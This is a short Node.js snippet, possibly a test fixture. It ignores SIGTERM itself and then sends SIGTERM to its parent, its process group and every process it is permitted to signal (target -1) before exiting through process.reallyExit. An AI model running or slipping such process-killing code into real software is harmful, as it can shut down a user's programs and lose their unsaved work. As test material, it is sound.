// Ignores SIGTERM, and signals its parent, its group and all it may.
process.on("SIGTERM", () => { });
function spread(numbers) {
  for (const target of [process.ppid, 0, -1]) {
    try {
      process.kill(target, "SIGTERM");
    } catch { }
  }
  process.reallyExit(0);
}
